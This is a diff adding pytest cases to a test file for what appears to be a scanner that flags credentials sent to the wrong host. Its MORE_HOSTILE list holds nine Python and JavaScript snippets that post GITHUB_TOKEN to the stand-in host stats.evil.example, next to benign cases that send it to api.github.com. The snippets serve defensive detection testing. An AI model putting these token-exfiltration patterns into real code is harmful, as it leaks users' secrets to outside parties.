@@ -297,3 +297,95 @@ def test_a_continued_curl_in_a_shell_script_is_followed() -> None:
         "  https://stats.evil.example/v1\n"
     )
     assert _worst("run.sh", script) == "high"
+
+
+#: the environment under another name, a client bound to a host, a fetcher run as a command,
+#: a wrapper of a wrapper: each sends GITHUB_TOKEN to stats.evil.example
+MORE_HOSTILE = [
+    (
+        "m.py",
+        "from os import environ\nimport requests\n\ntok = environ['GITHUB_TOKEN']\n"
+        "requests.post('https://stats.evil.example/v1', json={'t': tok})\n",
+    ),
+    (
+        "m.py",
+        "import os, requests\n\nenv = dict(os.environ)\n"
+        "requests.post('https://stats.evil.example/v1', json={'t': env['GITHUB_TOKEN']})\n",
+    ),
+    (
+        "m.js",
+        "const env = process.env;\n"
+        "fetch('https://stats.evil.example/v1', { method: 'POST', body: env.GITHUB_TOKEN });\n",
+    ),
+    (
+        "m.py",
+        "import os, http.client\n\nc = http.client.HTTPSConnection('stats.evil.example')\n"
+        "c.request('POST', '/v1', body=os.environ['GITHUB_TOKEN'])\n",
+    ),
+    (
+        "m.py",
+        "import os, httpx\n\nclient = httpx.Client(base_url='https://stats.evil.example')\n"
+        "client.post('/v1', headers={'Authorization': os.environ['GITHUB_TOKEN']})\n",
+    ),
+    (
+        "m.js",
+        "const axios = require('axios');\n"
+        "const api = axios.create({ baseURL: 'https://stats.evil.example' });\n"
+        "api.post('/v1', { t: process.env.GITHUB_TOKEN });\n",
+    ),
+    (
+        "m.py",
+        "import os, subprocess\n\nsubprocess.run(['curl', '-s', '-d', os.environ['GITHUB_TOKEN'],"
+        " 'https://stats.evil.example/v1'])\n",
+    ),
+    (
+        "m.js",
+        "const { execSync } = require('child_process');\n"
+        "execSync(`curl -s -d ${process.env.GITHUB_TOKEN} https://stats.evil.example/v1`);\n",
+    ),
+    (
+        "m.py",
+        "import os, requests\n\n\ndef _send(u, b):\n    return requests.post(u, data=b)\n\n\n"
+        "def report(b):\n    return _send('https://stats.evil.example/v1', b)\n\n\n"
+        "report(os.environ['GITHUB_TOKEN'])\n",
+    ),
+]
+
+MORE_HONEST = [
+    (
+        "m.py",
+        "import os, http.client\n\nc = http.client.HTTPSConnection('api.github.com')\n"
+        "c.request('GET', '/user', headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n",
+    ),
+    (
+        "m.py",
+        "import os, subprocess\n\ntok = os.environ['GITHUB_TOKEN']\n"
+        "subprocess.run(['curl', '-s', '-H', f'Authorization: token {tok}',"
+        " 'https://api.github.com/user'], check=True)\n",
+    ),
+    (
+        "m.js",
+        "const env = process.env;\nconst base = env.API_BASE || 'https://api.example.net';\n"
+        "fetch('https://api.example.net/v1/items', { headers: { 'x-api-key': env.ITEMS_KEY } });\n"
+        "fetch('https://api.github.com/user', { headers: { Authorization: `token ${env.GITHUB_TOKEN}` } });\n",
+    ),
+    (
+        "m.py",
+        "import os, httpx\n\ngh = httpx.Client(base_url='https://api.github.com',"
+        " headers={'Authorization': f\"token {os.environ['GITHUB_TOKEN']}\"})\n"
+        "hooks = httpx.Client(base_url='https://hooks.example.net')\n"
+        "hooks.post('/x', json={'login': gh.get('/user').json()['login']})\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "text"), MORE_HOSTILE)
+def test_more_shapes_of_a_credential_sent_elsewhere_are_secret_in_url(name: str, text: str) -> None:
+    assert _worst(name, text) == "high"
+
+
+@pytest.mark.parametrize(("name", "text"), MORE_HONEST)
+def test_more_shapes_of_a_credential_sent_to_its_service_are_no_finding(
+    name: str, text: str
+) -> None:
+    assert _worst(name, text) is None
